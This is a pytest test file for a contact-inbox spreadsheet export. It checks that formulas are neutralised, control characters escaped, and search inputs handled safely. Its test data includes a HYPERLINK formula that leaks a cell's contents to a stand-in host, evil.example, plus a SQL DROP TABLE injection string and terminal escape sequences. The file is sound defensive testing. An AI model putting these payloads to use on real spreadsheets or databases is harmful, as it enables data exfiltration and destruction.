"""Staff download the inbox as CSV or XLSX and open it in a spreadsheet: every row is there,
readable, in the shop's time, and nothing in it runs as a formula."""

import codecs
import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from contactkit.inbox.exports import escape_control_characters, neutralise_formula
from contactkit.inbox.models import Conversation, Status
from tests.inbox.builders import conversation, staff_user
from tests.profile.builders import profile_for

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# Vertical tab, escape (with a terminal colour code after it), backspace, DEL and a C1 control.
HOSTILE = "Hola\x0bmundo\x1b[31m rojo\x08 fin\x7f\x85"
HOSTILE_SHOWN = "Hola\u240bmundo\u241b[31m rojo\u2408 fin\u2421<U+0085>"
MULTILINE = "Primera línea\nSegunda\tcon tabulador\r\nTercera"


def inbox(name="index"):
    return reverse(f"contactkit_inbox:{name}")


def download(client, fmt, url=None, **params):
    response = client.get(url or inbox(), {"export": fmt, **params})
    assert response.status_code == 200, response.status_code
    return response, b"".join(response.streaming_content)


def csv_rows(content, delimiter=","):
    """The rows as a spreadsheet reads them: UTF-8 with its BOM, split at ``delimiter``."""
    assert content.startswith(codecs.BOM_UTF8)
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


def xlsx_rows(content):
    """Each row as {heading: cell}, read back with openpyxl as Excel would open the file."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headings, *rows = [list(row) for row in sheet.iter_rows()]
    names = [cell.value for cell in headings]
    return [dict(zip(names, row, strict=True)) for row in rows]


def heading(rows, start):
    """The one heading starting with ``start`` (time headings name the time zone)."""
    (found,) = [name for name in rows[0] if name.startswith(start)]
    return found


# Control characters


def test_a_control_character_in_one_message_never_breaks_the_xlsx_download(admin_client, site):
    made = conversation(site, name="Ana\x1b", message=HOSTILE)
    conversation(site, name="Luis", message="Todo bien")

    _response, content = download(admin_client, "xlsx")

    rows = {row["Reference"].value: row for row in xlsx_rows(content)}
    assert len(rows) == 2
    assert rows[made.reference]["Message"].value == HOSTILE_SHOWN
    assert rows[made.reference]["Name"].value == "Ana\u241b"


def test_control_characters_are_shown_in_the_csv_download(admin_client, site):
    conversation(site, name="Ana\x1b", message=HOSTILE)

    _response, content = download(admin_client, "csv")

    (row,) = csv_rows(content)
    assert row["Message"] == HOSTILE_SHOWN
    assert row["Name"] == "Ana\u241b"


def test_line_breaks_and_tabs_stay_readable(admin_client, site):
    conversation(site, message=MULTILINE)

    _response, csv_content = download(admin_client, "csv")
    _response, xlsx_content = download(admin_client, "xlsx")

    assert csv_rows(csv_content)[0]["Message"] == MULTILINE
    (row,) = xlsx_rows(xlsx_content)
    assert row["Message"].value.replace("\r\n", "\n") == MULTILINE.replace("\r\n", "\n")
    assert row["Message"].alignment.wrap_text  # shown on several lines in the cell


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("\x00", "\u2400"),
        ("a\x0bb\x0cc", "a\u240bb\u240cc"),
        ("\x1f", "\u241f"),
        ("\x9f", "<U+009F>"),
        ("\ud800", "<U+D800>"),
        ("\uffff", "<U+FFFF>"),
        ("tab\tnew\nline\rend", "tab\tnew\nline\rend"),
        ("Ñandú ☕ 😀", "Ñandú ☕ 😀"),
        (None, None),
        (3, 3),
    ],
)
def test_control_characters_are_shown_as_signs(value, shown):
    assert escape_control_characters(value) == shown


def test_a_lone_surrogate_in_the_answers_is_shown_not_fatal(admin_client, site):
    if connection.vendor == "postgresql":
        pytest.skip("PostgreSQL refuses to store a lone surrogate in the first place")
    conversation(site, extra_fields={"Talla": "M\ud800"})

    _response, csv_content = download(admin_client, "csv")
    _response, xlsx_content = download(admin_client, "xlsx")

    assert csv_rows(csv_content)[0]["Other answers"] == "Talla: M<U+D800>"
    assert xlsx_rows(xlsx_content)[0]["Other answers"].value == "Talla: M<U+D800>"


def test_text_longer_than_an_excel_cell_is_cut_with_a_note(admin_client, site):
    conversation(site, message="x" * 40_000)

    _response, content = download(admin_client, "xlsx")

    value = xlsx_rows(content)[0]["Message"].value
    assert len(value) == 32767
    assert value.endswith("the full text is in the inbox]")


# Formulas


def test_xlsx_cells_are_text_without_a_visible_quote(admin_client, site):
    conversation(
        site,
        name=FORMULA,
        message="-1+1 y @SUMA",
        phone="+34600111222",
        order_number="@A1",
    )

    _response, content = download(admin_client, "xlsx")

    (row,) = xlsx_rows(content)
    assert row["Name"].value == FORMULA
    assert row["Message"].value == "-1+1 y @SUMA"
    assert row["Phone"].value == "+34600111222"
    assert row["Order number"].value == "@A1"
    for name in ("Name", "Message", "Phone", "Order number", "Reference", "Email"):
        assert row[name].data_type == "s", name
    # Excel's hidden quote prefix: shown as typed, stays text when the cell is edited.
    assert row["Name"].quotePrefix and row["Phone"].quotePrefix
    assert not row["Email"].quotePrefix


def test_csv_neutralises_formulas_with_a_leading_quote(admin_client, site):
    made = conversation(site, name=FORMULA, message="-1+1 y @SUMA", phone="+34600111222")
    conversation(site, name="Robot", status=Status.SPAM, spam_reason="honeypot")

    response, content = download(admin_client, "csv")

    assert response["Content-Disposition"].startswith('attachment; filename="inbox-')
    rows = csv_rows(content)
    assert [row["Reference"] for row in rows] == [made.reference]
    row = rows[0]
    assert row["Name"] == "'" + FORMULA
    assert row["Message"] == "'-1+1 y @SUMA"
    assert row["Phone"] == "'+34600111222"
    assert row["Status"] == "New" and row["Topic"] == "Order status"
    assert row["Email"] == "ana@example.com"


def test_a_control_character_cannot_hide_a_formula(admin_client, site):
    conversation(site, name="\x0b=1+1", message="\t=1+1")
    _response, content = download(admin_client, "csv")
    (row,) = csv_rows(content)
    assert row["Message"] == "'\t=1+1"
    assert row["Name"] == "\u240b=1+1"  # starts with a visible sign: not a formula


def test_the_export_follows_the_filters(admin_client, site):
    conversation(site, name="Abierta", status=Status.OPEN)
    closed = conversation(site, name="Cerrada", status=Status.CLOSED)
    _response, content = download(admin_client, "csv", status="closed")
    assert [row["Reference"] for row in csv_rows(content)] == [closed.reference]


def test_the_spam_folder_downloads_too(admin_client, site):
    spam = conversation(site, name="Robot\x1b", status=Status.SPAM, spam_reason="honeypot")
    _response, content = download(admin_client, "xlsx", url=inbox("spam"))
    (row,) = xlsx_rows(content)
    assert row["Reference"].value == spam.reference
    assert row["Name"].value == "Robot\u241b"


def test_wagtail_alone_leaves_csv_formulas_live():
    """Why contactkit neutralises: Wagtail's CSV export writes a formula as it is (its XLSX
    export only forces a leading "=" to text)."""
    assert SpreadsheetExportMixin().preprocess_field_value("name", FORMULA, "csv") == FORMULA


@pytest.mark.parametrize("value", ["=1+1", "+34 600", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "ana@example.com", "", 3, None, " =1"])
def test_other_values_are_left_alone(value):
    assert neutralise_formula(value) == value


# Opening the CSV in a spreadsheet


def test_csv_opens_in_an_english_spreadsheet_with_commas_and_accents(admin_client, site):
    conversation(site, name="Ana García", message="Pedido, nº 5; ¿llega mañana?")

    response, content = download(admin_client, "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert content.startswith(codecs.BOM_UTF8)
    (row,) = csv_rows(content, delimiter=",")
    assert row["Name"] == "Ana García"
    assert row["Message"] == "Pedido, nº 5; ¿llega mañana?"


def test_csv_opens_in_a_spanish_spreadsheet_with_semicolons(spanish_admin_client, site):
    """In Spanish the comma is the decimal separator: the spreadsheet splits at ";"."""
    made = conversation(site, name="Ana García", message="Pedido, nº 5; ¿llega mañana?")

    _response, content = download(spanish_admin_client, "csv")

    rows = csv_rows(content, delimiter=";")
    assert len(rows) == 1
    row = rows[0]
    assert row["Referencia"] == made.reference
    assert row["Nombre"] == "Ana García"
    assert row["Mensaje"] == "Pedido, nº 5; ¿llega mañana?"
    assert len(row) == len(rows[0])  # every row splits into the same columns


# Time zones


@pytest.fixture
def new_york_shop(site):
    return profile_for(site, time_zone="America/New_York")


def received_at(hour, minute=0):
    return dt.datetime(2026, 3, 2, hour, minute, tzinfo=dt.UTC)


def test_times_are_in_the_shop_time_zone_in_csv(admin_client, site, new_york_shop):
    made = conversation(site)
    Conversation.objects.filter(pk=made.pk).update(
        created_at=received_at(15, 30), first_response_at=received_at(17, 45)
    )

    _response, content = download(admin_client, "csv")

    (row,) = csv_rows(content)
    assert row["Received (America/New_York)"] == "2026-03-02 10:30"
    assert row["First answered (America/New_York)"] == "2026-03-02 12:45"
    assert row["Time zone"] == "America/New_York"


def test_times_are_in_the_shop_time_zone_in_xlsx(admin_client, site, new_york_shop):
    made = conversation(site)
    Conversation.objects.filter(pk=made.pk).update(
        created_at=received_at(15, 30), first_response_at=received_at(17, 45)
    )

    _response, content = download(admin_client, "xlsx")

    (row,) = xlsx_rows(content)
    assert row["Received (America/New_York)"].value == dt.datetime(2026, 3, 2, 10, 30)
    assert row["Received (America/New_York)"].is_date
    assert row["First answered (America/New_York)"].value == dt.datetime(2026, 3, 2, 12, 45)
    assert row["Time zone"].value == "America/New_York"


def test_unanswered_conversations_have_an_empty_first_answer(admin_client, site, new_york_shop):
    conversation(site)
    _response, content = download(admin_client, "csv")
    (row,) = csv_rows(content)
    assert row[heading([row], "First answered (")] == ""


# Columns


def test_other_answers_and_the_first_message_are_exported(admin_client, site):
    made = conversation(
        site,
        message="Primer mensaje",
        extra_fields={"Talla": "M", "Color": "=Azul", "Regalo": "Sí"},
        # The order the form asked in, kept even where the database sorts a JSON object's keys.
        form_definition=[{"name": "talla", "label": "Talla"}, {"name": "color", "label": "Color"}],
    )
    made.messages.create(kind="shopper", body="Segundo mensaje")

    _response, csv_content = download(admin_client, "csv")
    _response, xlsx_content = download(admin_client, "xlsx")

    (row,) = csv_rows(csv_content)
    assert row["Other answers"] == "Talla: M\nColor: =Azul\nRegalo: Sí"
    assert row["Message"] == "Primer mensaje"
    (cells,) = xlsx_rows(xlsx_content)
    assert cells["Other answers"].value == "Talla: M\nColor: =Azul\nRegalo: Sí"
    assert cells["Message"].value == "Primer mensaje"


# Queries


def count_export_queries(client, fmt):
    with CaptureQueriesContext(connection) as queries:
        download(client, fmt)
    return len(queries)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_query_count_does_not_grow_with_the_conversations(admin_client, site, fmt):
    profile_for(site)
    marta = staff_user("view_conversation")
    for n in range(3):
        conversation(site, name=f"C{n}", assignee=marta, extra_fields={"Talla": "M"})
    few = count_export_queries(admin_client, fmt)
    for n in range(17):
        conversation(site, name=f"D{n}", assignee=staff_user("view_conversation"))
    many = count_export_queries(admin_client, fmt)
    assert few == many


# Search


def listed(response):
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def test_a_search_of_a_thousand_words_answers(admin_client, site):
    found = conversation(site, name="Ana García", message="¿Dónde está mi pedido?")
    conversation(site, name="Luis", message="Otra cosa")
    words = " ".join(["Ana", "pedido"] + [f"palabra{n}" for n in range(1000)])

    page = listed(admin_client.get(inbox(), {"q": words}))
    results = listed(admin_client.get(inbox("index_results"), {"q": words}))

    # Only the first ten words count: the two that match and eight that match nothing.
    assert found.reference not in page and found.reference not in results
    first_ten = ["A", "An", "Ana", "Gar", "García", "ped", "pedi", "pedido", "mi", "Dónde"]
    first_ten_match = " ".join(first_ten + [f"palabra{n}" for n in range(990)])
    assert found.reference in listed(admin_client.get(inbox(), {"q": first_ten_match}))
    _response, content = download(admin_client, "csv", q=words)
    assert csv_rows(content) == []


def test_repeated_words_count_once(admin_client, site):
    found = conversation(site, name="Ana García", message="¿Dónde está mi pedido?")
    words = " ".join(["ana", "ANA"] * 20 + ["pedido"])
    assert found.reference in listed(admin_client.get(inbox(), {"q": words}))


@pytest.mark.parametrize(
    "text",
    [
        "%",
        "_",
        "%%%%",
        "\\",
        "'; DROP TABLE contactkit_conversation; --",
        '"',
        "[a-z]*",
        "a" * 100_000,
        " ".join(["x" * 5000] * 50),
        "\u202e\u200b😀",
        "\x00",
        "\x0b\x1b",
    ],
)
def test_no_search_text_makes_the_inbox_fail(admin_client, site, text):
    conversation(site)
    listed(admin_client.get(inbox(), {"q": text}))
    listed(admin_client.get(inbox("index_results"), {"q": text}))
    listed(admin_client.get(inbox("spam"), {"q": text}))


def test_percent_and_underscore_are_searched_as_themselves(admin_client, site):
    sale = conversation(site, name="Cupón 100%_off")
    other = conversation(site, name="Ana")
    page = listed(admin_client.get(inbox(), {"q": "%_"}))
    assert sale.reference in page and other.reference not in page
